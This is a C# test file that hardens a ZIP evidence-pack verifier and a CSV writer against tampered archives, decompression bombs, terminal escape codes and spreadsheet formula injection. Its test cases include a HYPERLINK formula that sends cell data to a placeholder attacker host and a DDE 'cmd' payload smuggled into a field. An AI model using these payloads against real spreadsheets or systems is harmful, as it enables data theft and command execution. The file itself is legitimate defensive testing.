using System.Buffers.Binary;
using System.IO.Compression;
using System.Text;
using Distill.Attribution.Application.Abstractions;
using Distill.Attribution.Application.Evidence.VerifyEvidencePack;
using Distill.Attribution.EvidencePacks;

namespace Distill.Attribution.Infrastructure.Tests.EvidencePacks;

/// <summary>verify-pack against containers distill never writes, entries far larger than listed, and formula cells in members.csv.</summary>
public sealed class PackHardeningTests
{
    private string dir = "";

    [SetUp]
    public void CreateDirectory() => dir = Directory.CreateTempSubdirectory("packs-hard-").FullName;

    [TearDown]
    public void DeleteDirectory() => Directory.Delete(dir, recursive: true);

    [Test]
    public async Task ShouldReportAnArchiveCommentWithoutPrintingItsControlCharacters()
    {
        var zip = await WritePackAsync();
        var comment = "Verified OK by the provider\u001b[2J"u8.ToArray();
        // Our packs have no comment: the end record is the last 22 bytes, its comment length the last two.
        BinaryPrimitives.WriteUInt16LittleEndian(zip.AsSpan(zip.Length - 2), (ushort)comment.Length);

        var result = await VerifyAsync([.. zip, .. comment]);

        var problem = result.Problems.Single();
        Assert.That(problem.Kind, Is.EqualTo(PackProblemKind.Container));
        Assert.That(problem.Detail, Does.Contain("archive comment").And.Contain("Verified OK by the provider?[2J").And.Not.Contain("\u001b"));
    }

    [Test]
    public async Task ShouldReportBytesGluedAfterTheArchive()
    {
        var zip = await WritePackAsync();

        var result = await VerifyAsync([.. zip, .. Encoding.ASCII.GetBytes("#!/bin/sh\necho payload\n")]);

        Assert.That(result.Problems.Single().Kind, Is.EqualTo(PackProblemKind.Container));
        Assert.That(result.Problems.Single().Detail, Does.Contain("23 byte(s) follow the end of the ZIP archive"));
    }

    [Test]
    public async Task ShouldNotPassAPackWithBytesBeforeTheArchive()
    {
        var zip = await WritePackAsync();

        var result = await VerifyAsync([.. new byte[64], .. zip]);

        Assert.That(result.IsValid, Is.False, string.Join("; ", result.Problems));
    }

    [Test]
    public async Task ShouldNameAnEntryCommentAndNoteADirectoryEntryWithoutFailingOnIt()
    {
        var entries = PackZip.Entries(await WritePackAsync());
        using var stream = new MemoryStream();
        using (var archive = new ZipArchive(stream, ZipArchiveMode.Create, leaveOpen: true))
        {
            archive.CreateEntry("sources/");
            foreach (var e in entries)
            {
                var entry = archive.CreateEntry(e.Path);
                if (e.Path == "evidence.json")
                {
                    entry.Comment = "see attached";
                }

                using var s = entry.Open();
                s.Write(e.Bytes);
            }
        }

        var result = await VerifyAsync(stream.ToArray());

        Assert.That(result.Warnings, Is.EqualTo(new[] { "directory entry sources/ (not written by distill; holds no content)" }));
        Assert.That(result.Problems.Single(), Is.EqualTo(new PackProblem(PackProblemKind.Container, "evidence.json", "the entry carries a comment that distill never writes: \"see attached\"")));
    }

    [Test]
    public async Task ShouldStopInflatingAnEntryAtTheSizeItsManifestListsWithoutBufferingIt()
    {
        // evidence.json replaced by 256 MiB of zeros (256 KiB compressed): the verifier must name it without
        // holding it, the way a 4 GiB entry must not cost 2 GB (bench/packs/verify-large.sh runs that case).
        var entries = PackZip.Entries(await WritePackAsync());
        var path = Path.Combine(dir, "bloated.zip");
        await using (var file = File.Create(path))
        using (var archive = new ZipArchive(file, ZipArchiveMode.Create))
        {
            foreach (var e in entries)
            {
                using var s = archive.CreateEntry(e.Path, CompressionLevel.Fastest).Open();
                if (e.Path == "evidence.json")
                {
                    var zeros = new byte[1 << 20];
                    for (var i = 0; i < 256; i++)
                    {
                        s.Write(zeros);
                    }
                }
                else
                {
                    s.Write(e.Bytes);
                }
            }
        }

        var before = GC.GetAllocatedBytesForCurrentThread();
        var result = new ZipEvidencePackVerifier().VerifyAsync(path, CancellationToken.None).GetAwaiter().GetResult();
        var allocated = GC.GetAllocatedBytesForCurrentThread() - before;

        var problem = result.Problems.Single();
        Assert.That((problem.Kind, problem.Entry), Is.EqualTo((PackProblemKind.Altered, "evidence.json")));
        Assert.That(problem.Detail, Does.Contain("inflates past the").And.Contain("bytes the manifest lists"));
        Assert.That(allocated, Is.LessThan(16L << 20), "the entry is streamed, not buffered");
    }

    [Test]
    public async Task ShouldHashAListedEntryLargerThanTheBudgetOnlyUpToTheBudget()
    {
        var zip = await WritePackAsync();
        var path = Path.Combine(dir, "pack.zip");
        await File.WriteAllBytesAsync(path, zip);

        var result = await new ZipEvidencePackVerifier(maxUnzippedBytes: 4096).VerifyAsync(path, CancellationToken.None);

        Assert.That(result.IsValid, Is.False);
        Assert.That(result.Problems.Any(p => p.Kind == PackProblemKind.Malformed && p.Detail.Contains("inflates past", StringComparison.Ordinal)), Is.True, string.Join("; ", result.Problems));
        Assert.That(result.Problems.Where(p => p.Entry is "manifest.sig" or "manifest.json"), Is.Empty, "the signature is still checked, and verifies");
    }

    [TestCase("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")")]
    [TestCase("+cmd|' /C calc'!A0")]
    [TestCase("-2+3")]
    [TestCase("@SUM(A1:A9)")]
    [TestCase("\t=1+1")]
    [TestCase("\r=1+1")]
    public void ShouldNeutraliseCellsASpreadsheetWouldReadAsFormulas(string orgName)
    {
        var content = PackTestData.Content();
        var accounts = content.Sources.Accounts.Select((a, i) => i == 0 ? a with { OrgName = orgName } : a).ToList();
        content = content with { Sources = content.Sources with { Accounts = accounts } };

        var csv = Encoding.UTF8.GetString(MembersCsv.Write(content));

        var expected = "\"'" + orgName.Replace("\"", "\"\"", StringComparison.Ordinal) + "\"";
        Assert.That(csv, Does.Contain("," + expected + ","));
        Assert.That(PackText.CsvCell("acct-7"), Is.EqualTo("acct-7"), "ordinary cells stay as they are");
        Assert.That(PackText.CsvCell("a,b"), Is.EqualTo("\"a,b\""));
    }

    [Test]
    public void ShouldKeepOldPublicKeysAcrossARotationAndPublishThemAll()
    {
        var ring = new SigningKeyRing(new EvidencePackOptions { KeyPath = Path.Combine(dir, "s.db.pack-key.pem") });
        var first = ring.Active();
        Assert.That(ring.Active(), Is.EqualTo(first), "the active key is registered once");

        var second = ring.Rotate(new DateTimeOffset(2026, 12, 1, 0, 0, 0, TimeSpan.Zero));

        Assert.That(second.Fingerprint, Is.Not.EqualTo(first.Fingerprint));
        Assert.That(ring.Active(), Is.EqualTo(second));
        var all = ring.All();
        Assert.That(all.Select(k => k.Fingerprint), Is.EqualTo(new[] { first.Fingerprint, second.Fingerprint }));
        Assert.That(all[0].RetiredAt, Is.EqualTo(new DateTimeOffset(2026, 12, 1, 0, 0, 0, TimeSpan.Zero)));
        Assert.That(all[1].KeyId, Is.EqualTo(SigningKeyInfo.IdOf(second.Fingerprint)));
        Assert.That(TrustedSigningKeys.Parse(ring.TrustedKeysText()), Is.EquivalentTo(new[] { first.Fingerprint, second.Fingerprint }));
        Assert.That(File.ReadAllText(ring.RegisterPath), Does.Not.Contain("PRIVATE"));
        if (!OperatingSystem.IsWindows())
        {
            Assert.That(File.GetUnixFileMode(ring.KeyPath), Is.EqualTo(UnixFileMode.UserRead | UnixFileMode.UserWrite));
        }
    }

    private async Task<byte[]> WritePackAsync()
    {
        var writer = PackTestData.Writer(dir, out _);
        var written = await writer.WriteAsync(PackTestData.Content(), Path.Combine(dir, "written.zip"), CancellationToken.None);
        return await File.ReadAllBytesAsync(written.Path);
    }

    private async Task<EvidencePackVerification> VerifyAsync(byte[] zip)
    {
        var path = Path.Combine(dir, "tampered.zip");
        await File.WriteAllBytesAsync(path, zip);
        return await new ZipEvidencePackVerifier().VerifyAsync(path, CancellationToken.None);
    }
}
